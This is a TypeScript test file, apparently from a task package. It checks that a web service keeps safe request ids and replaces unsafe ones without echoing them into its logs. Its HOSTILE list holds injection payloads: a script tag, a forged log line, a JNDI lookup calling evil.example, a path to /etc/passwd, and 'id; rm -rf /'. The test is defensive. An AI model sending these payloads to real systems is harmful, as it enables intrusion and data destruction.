import { check, expect } from '@backlab/checks';
import { basic, eventsSoFar } from './wire.ts';

const asAda = basic('ada', 'lovelace');

const HOSTILE = [
  ['markup', '<script>alert(1)</script>'],
  ['a forged log line', '","user":"root","msg":"signed in'],
  ['a lookup that a logger might follow', '$' + '{jndi:ldap://evil.example/a}'],
  ['a path', '../../etc/passwd'],
  ['a command', 'id; rm -rf /'],
  ['4,000 characters', 'x'.repeat(4000)],
] as const;

check(
  'an id that is safe to repeat is kept; every other is replaced by a fresh one',
  {
    objective: 'safe-id',
    lookAt:
      'The id goes into your logs and back to the caller. Say what is allowed (letters, digits, - and _, at most 64), not what is forbidden.',
  },
  async ({ http, server }) => {
    const seen = new Set<string>();
    for (const id of ['req-7f3a_9', '2f1c8f6e-5b0a-4f0c-9d44-0f6f5d3c2b1a']) {
      const kept = await http.get('/notes', { headers: { Authorization: asAda, 'X-Request-Id': id } });
      expect(kept).toHaveStatus(200);
      expect(kept).toHaveHeader('x-request-id', id);
      seen.add(id);
    }
    for (const [what, offered] of [['nothing', undefined] as const, ...HOSTILE]) {
      const answer = await http.get('/notes', {
        headers: { Authorization: asAda, ...(offered === undefined ? {} : { 'X-Request-Id': offered }) },
      });
      expect(answer).toHaveStatus(200);
      const id = answer.headers.get('x-request-id') ?? '';
      expect(id, { exchange: answer, message: `the id given to a request that offered ${what}` }).toMatch(
        /^[A-Za-z0-9_=-]{1,128}$/,
      );
      expect(seen.has(id), { exchange: answer, message: `whether the id ${id} was given before` }).toBe(
        false,
      );
      seen.add(id);
    }
    const logged = new Set((await eventsSoFar(http, server)).map((event) => event['requestId']));
    for (const id of seen)
      expect(logged.has(id), { message: `whether the log knows the request ${id}` }).toBe(true);
    for (const [what, offered] of HOSTILE) {
      const leaked =
        server.output().includes(offered) || server.output().includes(JSON.stringify(offered).slice(1, -1));
      expect(leaked, { message: `whether the log repeats ${what}` }).toBe(false);
    }
  },
);
